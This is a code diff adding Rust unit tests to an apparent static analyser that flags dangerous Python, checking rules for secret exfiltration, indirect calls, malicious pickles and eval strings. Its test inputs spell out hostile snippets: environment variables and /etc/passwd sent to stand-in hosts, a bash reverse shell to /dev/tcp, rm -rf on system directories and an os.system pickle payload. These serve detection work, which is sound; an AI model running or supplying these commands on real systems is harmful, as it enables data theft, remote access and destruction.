@@ -147,3 +147,145 @@ fn nested_comprehensions_and_loops_stay_bounded() {
     assert!(assessment.level <= Level::Medium);
     assert!(start.elapsed() < std::time::Duration::from_secs(5));
 }
+
+#[test]
+fn secrets_flow_to_the_calls_that_send_them() {
+    // A secret source reaching a sink that leaves the machine is exfiltration, however
+    // many assignments, containers and helper calls lie between them.
+    fires(
+        "CRD109",
+        "import os, requests\nd = dict(os.environ)\nbody = {'e': d}\nrequests.post('https://x.example', json=body)\n",
+    );
+    fires(
+        "CRD109",
+        "import socket\nraw = open('/etc/group').read()\nb = raw.encode()\ns = socket.socket()\ns.connect(('h', 1))\ns.send(b)\n",
+    );
+    fires(
+        "CRD109",
+        "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\nsocket.gethostbyname(t + '.x.example')\n",
+    );
+    fires(
+        "CRD109",
+        "import urllib.request\ndef send(u, f='/etc/passwd'):\n    urllib.request.urlopen(u, data=open(f, 'rb').read())\nsend('http://h')\n",
+    );
+}
+
+#[test]
+fn credentials_used_to_authenticate_are_not_exfiltration() {
+    // A token from the environment in an Authorization header, or non-secret variables
+    // sent out, stay network use.
+    silent(
+        "CRD109",
+        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get('https://api', headers={'Authorization': t})\n",
+    );
+    silent(
+        "CRD109",
+        "import os, requests\nrequests.post('https://api', json={'home': os.environ['HOME'], 'who': os.getenv('USER')})\n",
+    );
+}
+
+#[test]
+fn parameter_defaults_are_bound() {
+    // A default value is what the body sees when the call leaves the argument out.
+    fires(
+        "CRD204",
+        "def save(text, path='/etc/motd'):\n    open(path, 'w').write(text)\nsave('hi')\n",
+    );
+    fires(
+        "CRD208",
+        "def show(p='/etc/login.defs'):\n    print(open(p).read())\nshow()\n",
+    );
+}
+
+#[test]
+fn calls_reached_indirectly_are_calls() {
+    // Thread targets, executor submissions, map, methodcaller, libc's system and
+    // `__reduce__` all end in the call they name.
+    fires(
+        "CRD104",
+        "import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('/usr',)).start()\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nfrom concurrent.futures import ProcessPoolExecutor as P\nP().submit(os.system, 'rm -rf /')\n",
+    );
+    fires(
+        "CRD101",
+        "import os, operator\noperator.methodcaller('system', 'bash -i >& /dev/tcp/h/1 0>&1')(os)\n",
+    );
+    fires(
+        "CRD104",
+        "import ctypes\nctypes.CDLL('libc.so.6').system(b'rm -rf /')\n",
+    );
+    fires(
+        "CRD103",
+        "import os, pickle\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.loads(pickle.dumps(A()))\n",
+    );
+    silent(
+        "CRD103",
+        "import pickle\nclass A:\n    def __reduce__(self):\n        return (self.__class__, (1,))\n",
+    );
+}
+
+#[test]
+fn constant_pickles_are_disassembled() {
+    // A protocol 0 pickle importing os.system is decode-then-execute; a pickled string is not.
+    fires(
+        "CRD103",
+        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
+    );
+    silent(
+        "CRD103",
+        "import pickle\npickle.loads(b'\\x80\\x04\\x95\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x04text\\x94.')\n",
+    );
+}
+
+#[test]
+fn calls_hidden_in_evaluated_strings_are_high() {
+    // A constant exec/eval string that starts a program is at least HIGH; arithmetic is not.
+    level(
+        Level::High,
+        "def run(e):\n    return eval(e)\nrun(\"__import__('os').system('ls')\")\n",
+    );
+    level(Level::Low, "print(eval('2 + 2'))\n");
+}
+
+#[test]
+fn instances_ternaries_varargs_and_dict_loops_are_followed() {
+    // Calls through an instance run the method with what __init__ stored; `a if c else b`
+    // keeps the followable branch; *args collects the arguments; `for k in d` sees keys.
+    fires(
+        "CRD104",
+        "import os\nclass R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nR('rm -rf /usr').go()\n",
+    );
+    fires(
+        "CRD104",
+        "import os, sys\nf = os.system if sys.argv else print\nf('rm -rf /etc')\n",
+    );
+    fires(
+        "CRD104",
+        "import subprocess\ndef sh(*p):\n    subprocess.run(' '.join(p), shell=True)\nsh('rm', '-rf', '/usr')\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nd = {'a': 'ls', 'b': 'rm -rf /opt'}\nfor k in d:\n    os.system(d[k])\n",
+    );
+    fires(
+        "CRD301",
+        "import os, sys\nos.system('grep %s .' % (sys.argv[1] if sys.argv else 'x'))\n",
+    );
+}
+
+#[test]
+fn decorators_are_called_and_closures_keep_what_they_captured() {
+    // A decorator factory's inner function runs the decorated function with the factory's
+    // argument; a returned closure still sees its enclosing function's variables.
+    fires(
+        "CRD104",
+        "import os\ndef with_cmd(c):\n    def deco(f):\n        f(c)\n        return f\n    return deco\n@with_cmd('rm -rf /usr')\ndef go(x):\n    os.system(x)\n",
+    );
+    fires(
+        "CRD104",
+        "import shutil\ndef make(p):\n    def run():\n        shutil.rmtree(p)\n    return run\nmake('/etc')()\n",
+    );
+}
